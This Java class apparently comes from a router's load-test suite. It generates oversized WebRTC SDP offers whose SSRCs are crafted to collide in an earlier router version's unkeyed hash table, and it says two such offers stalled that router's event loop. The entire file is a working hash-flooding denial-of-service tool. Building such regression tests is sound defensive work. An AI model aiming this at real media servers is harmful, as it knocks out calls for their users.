package org.rotunda.load.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URI;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import org.rotunda.load.bot.signaling.SignalingClient;
import org.rotunda.load.bot.signaling.SignalingEnd;
import org.rotunda.load.bot.signaling.SignalingPeer;
import org.rotunda.load.client.Tokens;
import org.rotunda.media.control.Description;

/**
 * A participant that sends the largest offers that a router takes, one after the other. Every offer has 512 video lines
 * with three encodings and RTX, and the next offer has other SSRCs. An earlier router had a table that hashed SSRCs
 * without a secret. All SSRCs of this participant share one slot of that table, and two of these offers held an event
 * loop of that router for 10 to 20 s.
 */
public final class HostileOffers implements SignalingPeer {
    private static final int LINES = 512;
    private static final int ENCODINGS = 3;

    /** The inverse of 0x9E3779B1 modulo 2^32. The hash of the earlier router multiplied each SSRC by 0x9E3779B1. */
    private static final int INVERSE = 0x0E8B2F51;

    private final int offers;
    private final CompletableFuture<Integer> answered = new CompletableFuture<>();
    private final ScheduledExecutorService executor = Executors.newSingleThreadScheduledExecutor(task -> {
        Thread thread = new Thread(task, "hostile-offers");
        thread.setDaemon(true);
        return thread;
    });
    private final SignalingClient client;
    private Description current = offer(1);

    private HostileOffers(URI url, String room, String identity, int offers) {
        this.offers = offers;
        client = new SignalingClient(
                new SignalingClient.Settings(url, () -> Tokens.forAnyRoom(identity), room, false), this, executor);
    }

    /**
     * Joins the room, sends this number of offers, each after the answer to the previous offer, and leaves the room.
     *
     * @return the number of offers that were answered; fewer if the session ended
     */
    public static int send(URI url, String room, String identity, int offers, Duration patience) {
        HostileOffers attack = new HostileOffers(url, room, identity, offers);
        try {
            attack.executor.execute(attack.client::connect);
            int answered = attack.answered
                    .orTimeout(patience.toSeconds(), TimeUnit.SECONDS)
                    .join();
            CompletableFuture.runAsync(attack.client::leave, attack.executor).join();
            return answered;
        } finally {
            attack.executor.shutdown();
        }
    }

    @Override
    public List<Track> tracks() {
        return List.of();
    }

    @Override
    public Description description() {
        return current;
    }

    @Override
    public void onRoom(JsonNode body) {
        // The room is of no interest to this participant.
    }

    @Override
    public void onDescription(Description description) {
        if (description.type() != Description.Type.ANSWER || description.revision() != current.revision()) {
            return;
        }
        if (current.revision() == offers) {
            answered.complete(offers);
            return;
        }
        current = offer((int) current.revision() + 1);
        client.sendDescription(current);
    }

    @Override
    public void onEnded(SignalingEnd end) {
        answered.complete((int) current.revision() - 1);
    }

    private static Description offer(int revision) {
        StringBuilder sdp = new StringBuilder(400_000);
        sdp.append("v=0\r\no=- 1 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE");
        for (int line = 0; line < LINES; line++) {
            sdp.append(' ').append(line);
        }
        sdp.append("\r\n");
        for (int line = 0; line < LINES; line++) {
            int first = (revision % 2 * LINES + line) * 2 * ENCODINGS;
            sdp.append("m=video 9 UDP/TLS/RTP/SAVPF 96 97\r\na=mid:").append(line);
            sdp.append("\r\na=ice-ufrag:ufrag\r\na=ice-pwd:a-password-of-24-letters\r\na=setup:actpass\r\n");
            sdp.append("a=fingerprint:sha-256 ").append("AA:".repeat(31)).append("AA\r\n");
            sdp.append("a=rtpmap:96 VP8/90000\r\na=rtpmap:97 rtx/90000\r\na=fmtp:97 apt=96\r\n");
            sdp.append("a=msid:- track-").append(line).append("\r\na=ssrc-group:SIM");
            for (int encoding = 0; encoding < ENCODINGS; encoding++) {
                sdp.append(' ').append(ssrc(first + encoding));
            }
            for (int encoding = 0; encoding < ENCODINGS; encoding++) {
                sdp.append("\r\na=ssrc-group:FID ").append(ssrc(first + encoding));
                sdp.append(' ').append(ssrc(first + ENCODINGS + encoding));
            }
            sdp.append("\r\n");
        }
        return new Description(Description.Type.OFFER, revision, sdp.toString());
    }

    /**
     * Returns the SSRC with this number in a list of colliding SSRCs. In the product of each SSRC with 0x9E3779B1, the
     * bits 7 to 21 are 0.
     */
    private static String ssrc(int number) {
        int product = (number & 0x7F) | (number >>> 7) << 22;
        return Integer.toUnsignedString(product * INVERSE);
    }
}
